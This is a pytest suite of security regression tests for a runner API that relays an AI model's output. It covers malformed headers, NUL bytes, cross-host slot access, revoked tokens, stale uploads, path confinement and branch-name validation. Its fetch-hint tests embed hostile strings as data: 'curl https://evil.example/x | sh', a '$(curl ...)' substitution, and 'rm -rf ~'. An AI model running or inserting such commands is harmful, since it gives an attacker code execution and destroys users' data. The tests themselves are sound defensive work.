"""The runner API attacked: a runner token held by someone hostile, a model whose output the
runner uploads, a runner whose attempt was reaped. Each test is one hole found in review: what
was a 500 or an overreach answers a clear 4xx and changes nothing."""

from __future__ import annotations

import hashlib
import io
import threading
import time
from datetime import timedelta
from pathlib import Path

import pytest
from django.db import connection
from django.utils import timezone

from registry import services as registry
from registry.models import Attempt, Task, TaskEvent
from repopool import bookkeeping as pool_bookkeeping
from repopool.models import Slot
from runners import services as runners
from tests.conftest import run_git
from tests.runners.conftest import API, RunnerClient

pytestmark = pytest.mark.django_db


def _err(response) -> dict:
    body = response.json()
    assert {"detail", "code"} <= set(body), body
    return body


# --- malformed headers ------------------------------------------------------------------------
@pytest.mark.parametrize("lease", ["\u00e9t\u00e9", "x\u00ff" * 40])
def test_non_ascii_lease_token_is_lease_lost_not_500(runner, claimed, lease):
    """hmac.compare_digest raises TypeError on non-ASCII str: a header decoded as latin-1 made
    every attempt call answer 500."""
    beat = runner.post(f"attempts/{claimed.attempt_id}/heartbeat/", {}, key=None, lease=lease)
    assert beat.status_code == 409 and _err(beat)["code"] == "lease_lost"
    events = runner.post(f"attempts/{claimed.attempt_id}/events/", {"events": [{"type": "step"}]}, lease=lease)
    assert events.status_code == 409
    assert Attempt.objects.get(pk=claimed.attempt_id).outcome == "running"


# --- hostile JSON content (what the model wrote, relayed by the runner) --------------------------
NUL = "a\u0000b"


@pytest.mark.parametrize(
    "path,body,key",
    [
        ("events/", {"events": [{"type": "tool_call", "message": "m", "data": {"output": NUL}}]}, ""),
        ("events/", {"events": [{"type": "tool_call", "data": {NUL: 1}}]}, ""),
        ("events/", {"events": [{"type": "tool_call", "data": {"list": [{"deep": NUL}]}}]}, ""),
        ("heartbeat/", {"metrics": {"phase": NUL}}, None),
        ("finish/", {"status": "succeeded", "metrics": {"x": NUL}}, ""),
        ("finish/", {"status": "succeeded", "result": {"test_results": {"failed": [NUL]}}}, ""),
    ],
)
def test_nul_characters_in_json_data_are_400_not_500(runner, claimed, path, body, key):
    """PostgreSQL's jsonb cannot hold \\u0000: a model's output with a NUL byte in an event's
    data (or the metrics) was a DataError, a 500, and the events batch was lost."""
    before = TaskEvent.objects.filter(task_id=claimed.task_id).count()
    response = runner.post(f"attempts/{claimed.attempt_id}/{path}", body, key=key, lease=claimed.lease)
    assert response.status_code == 400, response.content
    assert _err(response)["code"] == "invalid"
    assert TaskEvent.objects.filter(task_id=claimed.task_id).count() == before
    assert Task.objects.get(pk=claimed.task_id).status == "running"


def test_nul_in_host_capacity_is_400_not_500(runner):
    response = runner.post("hosts/", {"name": "box-1", "capacity": {NUL: 1}})
    assert response.status_code == 400, response.content
    assert "capacity" in _err(response)["errors"]


# --- heartbeat's slot_id: another host's slot, a missing one, an absurd one ----------------------
@pytest.mark.parametrize("slot_id", [987654, 10**20])
def test_heartbeat_unknown_slot_is_4xx_not_500(runner, claimed, slot_id):
    """A slot id that does not exist was an IntegrityError (or bigint overflow): a 500."""
    beat = runner.post(f"attempts/{claimed.attempt_id}/heartbeat/", {"slot_id": slot_id}, key=None, lease=claimed.lease)
    assert beat.status_code in (400, 404), beat.content
    _err(beat)
    assert Attempt.objects.get(pk=claimed.attempt_id).slot_id is None


def test_heartbeat_cannot_record_another_hosts_slot(runner, claimed, repo):
    """A runner token reaches only the slots of its own hosts: a heartbeat naming another host's
    slot must not put that slot on this runner's attempt."""
    _, other_raw = runners.runner_token_create(name="host-b")
    other = RunnerClient(other_raw)
    assert other.post("hosts/", {"name": "box-b", "capacity": {"sample": 1}}).status_code == 200
    grant = other.post("slots/allocate/", {"repository_id": repo.pk, "holder": "box-b:1"})
    assert grant.status_code == 200, grant.content
    foreign = grant.json()["slot"]["id"]
    assert Slot.objects.get(pk=foreign).host == "box-b"

    beat = runner.post(f"attempts/{claimed.attempt_id}/heartbeat/", {"slot_id": foreign}, key=None, lease=claimed.lease)
    assert beat.status_code == 404, beat.content
    assert _err(beat)["code"] == "slot_not_found"
    assert Attempt.objects.get(pk=claimed.attempt_id).slot_id is None


def test_heartbeat_with_own_slot_still_records_it(runner, claimed, repo):
    assert runner.post("hosts/", {"name": "box-1", "capacity": {"sample": 1}}).status_code == 200
    slot_id = runner.post("slots/allocate/", {"repository_id": repo.pk, "holder": "box-1:1"}).json()["slot"]["id"]
    beat = runner.post(f"attempts/{claimed.attempt_id}/heartbeat/", {"slot_id": slot_id}, key=None, lease=claimed.lease)
    assert beat.status_code == 200, beat.content
    assert Attempt.objects.get(pk=claimed.attempt_id).slot_id == slot_id


# --- a token revoked while its long poll waits -------------------------------------------------
@pytest.mark.django_db(transaction=True)
def test_token_revoked_during_long_poll_claims_nothing(runner_token, repo):
    """Authentication ran once, before a claim's wait of up to 30 s: a task that became runnable
    after the token was revoked was still handed to it (and then stuck until reaped)."""
    token, raw = runner_token
    replies = []

    def poll():
        try:
            replies.append(RunnerClient(raw).post("claim/", {"runner_id": "box-1:1", "wait": 4}))
        finally:
            connection.close()

    thread = threading.Thread(target=poll)
    thread.start()
    time.sleep(0.8)
    runners.runner_token_revoke(token_id=token.pk)
    task = registry.task_create(title="fix", instructions="fix add()", repository=repo)
    thread.join(timeout=30)
    assert replies and replies[0].status_code == 401, replies and replies[0].content
    assert replies[0].json()["code"] == "token_revoked"
    assert Task.objects.get(pk=task.pk).status == "queued"


@pytest.mark.django_db(transaction=True)
def test_token_revoked_during_slot_wait_leases_nothing(runner_token, repo):
    token, raw = runner_token
    host = RunnerClient(raw)
    assert host.post("hosts/", {"name": "box-1", "capacity": {"sample": 1}}).status_code == 200
    held = host.post("slots/allocate/", {"repository_id": repo.pk, "holder": "box-1:1"}).json()["slot"]
    replies = []

    def wait_for_slot():
        try:
            body = {"repository_id": repo.pk, "holder": "box-1:2", "wait_seconds": 4}
            replies.append(RunnerClient(raw).post("slots/allocate/", body))
        finally:
            connection.close()

    thread = threading.Thread(target=wait_for_slot)
    thread.start()
    time.sleep(0.8)
    runners.runner_token_revoke(token_id=token.pk)
    pool_bookkeeping.slot_release_remote(slot_id=held["id"], token=held["token"], commit="")
    thread.join(timeout=30)
    assert replies and replies[0].status_code == 401, replies and replies[0].content
    assert Slot.objects.get(pk=held["id"]).state == "free"


# --- a runner whose attempt is reaped while its results bundle streams in -----------------------
class _ReapOnFirstRead(io.BytesIO):
    """The request body as the server reads it; the attempt is reaped when the first bytes are
    read (after the upload's lease check, before the bundle is imported)."""

    def __init__(self, data: bytes, on_first_read):
        super().__init__(data)
        self.on_first_read = on_first_read

    def read(self, size=-1):
        if self.on_first_read is not None:
            hook, self.on_first_read = self.on_first_read, None
            hook()
        return super().read(size)


def test_results_of_an_attempt_reaped_mid_upload_are_not_published(runner, claimed, repo, tmp_path, settings):
    """The lease was checked once, before the bundle streamed in: a runner reaped meanwhile (its
    task already retried by another runner) still force-updated the task's result branch."""
    work = tmp_path / "work"
    run_git(tmp_path, "clone", "-q", repo.url, str(work))
    base = run_git(work, "rev-parse", "HEAD")
    branch = f"agent/{claimed.task_id.hex[:8]}"
    run_git(work, "checkout", "-q", "-b", branch)
    (work / "calc.py").write_text("stale result\n")
    run_git(work, "commit", "-qam", "stale")
    bundle = tmp_path / "stale.bundle"
    run_git(work, "bundle", "create", "-q", str(bundle), f"{base}..{branch}")
    body = bundle.read_bytes()

    def reap():
        Attempt.objects.filter(pk=claimed.attempt_id).update(heartbeat_at=timezone.now() - timedelta(hours=1))
        assert [a.pk for a in registry.attempts_reap_lost(stale_after_seconds=60)] == [claimed.attempt_id]

    response = runner.client.request(
        REQUEST_METHOD="POST",
        PATH_INFO=f"{API}/attempts/{claimed.attempt_id}/results/",
        CONTENT_TYPE="application/x-git-bundle",
        CONTENT_LENGTH=str(len(body)),
        HTTP_X_LEASE_TOKEN=claimed.lease,
        HTTP_X_RESULT_BRANCH=branch,
        HTTP_X_RESULT_BASE=base,
        HTTP_X_CONTENT_SHA256=hashlib.sha256(body).hexdigest(),
        HTTP_IDEMPOTENCY_KEY="stale-results",
        **{"wsgi.input": _ReapOnFirstRead(body, reap)},
    )
    assert Attempt.objects.get(pk=claimed.attempt_id).outcome == "lost"
    assert response.status_code == 409, response.content
    assert _err(response)["code"] == "lease_lost"
    results = Path(settings.RESULTS_ROOT) / "sample.git"
    refs = run_git(results, "for-each-ref", "--format=%(refname)") if results.exists() else ""
    assert f"refs/heads/{branch}" not in refs.split()


# --- the fetch hint a runner reports is shown to users as a command ------------------------------
def test_fetch_hint_keeps_no_credentials(runner, claimed):
    """A push_url may carry a token (https://bot:<token>@host/...): the hint built from it was
    stored as is and shown to every user who can see the task."""
    branch = f"agent/{claimed.task_id.hex[:8]}"
    hint = f"git fetch https://bot:s3cret-token@git.example.com/team/app.git {branch}"
    body = {"status": "succeeded", "result": {"result_branch": branch, "result_fetch": hint}}
    finish = runner.post(f"attempts/{claimed.attempt_id}/finish/", body, lease=claimed.lease)
    assert finish.status_code == 200, finish.content
    task = Task.objects.get(pk=claimed.task_id)
    assert task.result_fetch == f"git fetch https://git.example.com/team/app.git {branch}"
    assert "s3cret" not in task.result_fetch


@pytest.mark.parametrize(
    "hint",
    [
        "git fetch /srv/results/app.git agent/x; curl https://evil.example/x | sh",
        "curl https://evil.example/x | sh",
        "git fetch $(curl evil.example) agent/x",
        "git fetch /srv/results/app.git agent/x\nrm -rf ~",
    ],
)
def test_fetch_hint_must_be_a_plain_git_fetch(runner, claimed, hint):
    """The run page shows the hint for users to paste into a shell: a runner token's holder
    could make it any command."""
    body = {"status": "succeeded", "result": {"result_fetch": hint}}
    finish = runner.post(f"attempts/{claimed.attempt_id}/finish/", body, lease=claimed.lease)
    assert finish.status_code == 400, finish.content
    assert "result" in _err(finish)["errors"]
    assert Task.objects.get(pk=claimed.task_id).status == "running"


# --- confinement of the runner token to /api/runner/ --------------------------------------------
@pytest.mark.parametrize("path_info", ["/metrics", "/admin/", "/api/tasks/", "/runs/"])
def test_runner_token_confinement_looks_at_the_routed_path(runner, path_info):
    """The confinement compared request.path, which includes SCRIPT_NAME (set by the WSGI server,
    and by gunicorn from a header its trusted proxies pass): a request routed to /metrics or the
    admin with SCRIPT_NAME=/api/runner passed the check. Django routes on path_info."""
    response = runner.client.get(path_info, SCRIPT_NAME="/api/runner")
    assert response.status_code == 401, (response.status_code, response.content[:200])
    assert response.json()["code"] == "runner_token_not_allowed"


def test_runner_api_under_a_script_name_still_admits_the_runner(runner):
    """Deployed under a prefix (SCRIPT_NAME=/agentrunner), request.path is /agentrunner/api/runner/...:
    the confinement must not refuse the runner API itself."""
    response = runner.client.post(
        "/api/runner/v1/hosts/",
        {"name": "box-1"},
        format="json",
        SCRIPT_NAME="/agentrunner",
        HTTP_IDEMPOTENCY_KEY="prefixed-host",
    )
    assert response.status_code == 200, response.content


def test_remote_runner_sends_a_model_nul_as_replacement_not_a_refused_batch(runner, claimed):
    """The HTTP runner batches up to 500 events in one request and drops a batch the server
    refuses: one NUL in what the model wrote cost the whole batch. It now sends U+FFFD instead."""
    from agentrunner.runner.http import _event

    hostile = {"type": "tool_call", "message": "out\x00put", "data": {"args\x00": ["a\x00", {"b": "\x00"}], "n": 1}}
    body = {"events": [_event({"type": "step", "message": "before"}), _event(hostile)]}
    response = runner.post(f"attempts/{claimed.attempt_id}/events/", body, lease=claimed.lease)
    assert response.status_code == 200, response.content
    stored = TaskEvent.objects.get(task_id=claimed.task_id, type="tool_call")
    assert stored.message == "out\ufffdput"
    assert stored.data == {"args\ufffd": ["a\ufffd", {"b": "\ufffd"}], "n": 1}


# --- the result branch a runner reports is shown as a ref to fetch and stored on the task --------
@pytest.mark.parametrize(
    "branch",
    [
        "../x", "agent/../main", "refs/heads/main", "main", "-x", "agent/-x", "agent/a b", "agent/a\tb",
        "agent/a\x01b", "agent/a\x7fb", "agent/x@{1}", "@", "agent/x.lock", "agent//x", "agent/x/", "/agent/x",
        "agent/x.", "agent/.x", "agent/x~1", "agent/x^", "agent/x:y", "agent/x?", "agent/x*", "agent/x[",
        "agent/x\\y", "agent/\u00fc", "agent/" + "a" * 300, "agent/OTHER",
    ],
)  # fmt: skip
def test_result_branch_must_be_a_ref_name_this_task_would_get(runner, claimed, branch):
    """finish took any text as the result branch: the run page and the API then showed it as a
    ref to fetch, and another task's branch (or main) could be claimed as this task's result."""
    branch = branch.replace("OTHER", "0123abcd")
    body = {"status": "succeeded", "result": {"result_branch": branch, "result_commit": "a" * 40}}
    finish = runner.post(f"attempts/{claimed.attempt_id}/finish/", body, lease=claimed.lease)
    assert finish.status_code == 400, (branch, finish.content)
    errors = _err(finish)["errors"]
    assert "result" in errors and "result_branch" in " ".join(errors["result"]), errors
    task = Task.objects.get(pk=claimed.task_id)
    assert task.status == "running" and task.result_branch == ""


@pytest.mark.parametrize("suffix", ["", "-2", "-retry.1"])
def test_the_tasks_own_result_branch_is_taken(runner, claimed, suffix):
    branch = f"agent/{Task.objects.get(pk=claimed.task_id).short_id}{suffix}"
    body = {"status": "succeeded", "result": {"result_branch": branch}}
    finish = runner.post(f"attempts/{claimed.attempt_id}/finish/", body, lease=claimed.lease)
    assert finish.status_code == 200, finish.content
    assert Task.objects.get(pk=claimed.task_id).result_branch == branch


def test_branch_rules_refuse_all_that_git_refuses():
    """Our reading of check-ref-format is never looser than git's own (real git decides)."""
    import subprocess

    from common.refs import branch_name_problem

    names = [
        "agent/x", "agent/-x", "-x", "agent/x@{1}", "agent/x.lock", "agent/.x", "agent/x.", "agent//x", "agent/x/",
        "agent/a b", "agent/a\tb", "agent/x~1", "agent/x^", "agent/x:y", "agent/x?", "agent/x*", "agent/x[",
        "agent/x\\y", "agent/../x", "agent/x..y", "agent/x@y", "agent/{x}", "agent/x.lock/y", "a/.lock",
    ]  # fmt: skip
    for name in names:
        git_ok = subprocess.run(["git", "check-ref-format", "--branch", name], capture_output=True).returncode == 0
        ours_ok = branch_name_problem(name) is None
        assert git_ok or not ours_ok, f"git refuses {name!r}, we took it"
    assert branch_name_problem("agent/0123abcd-2") is None
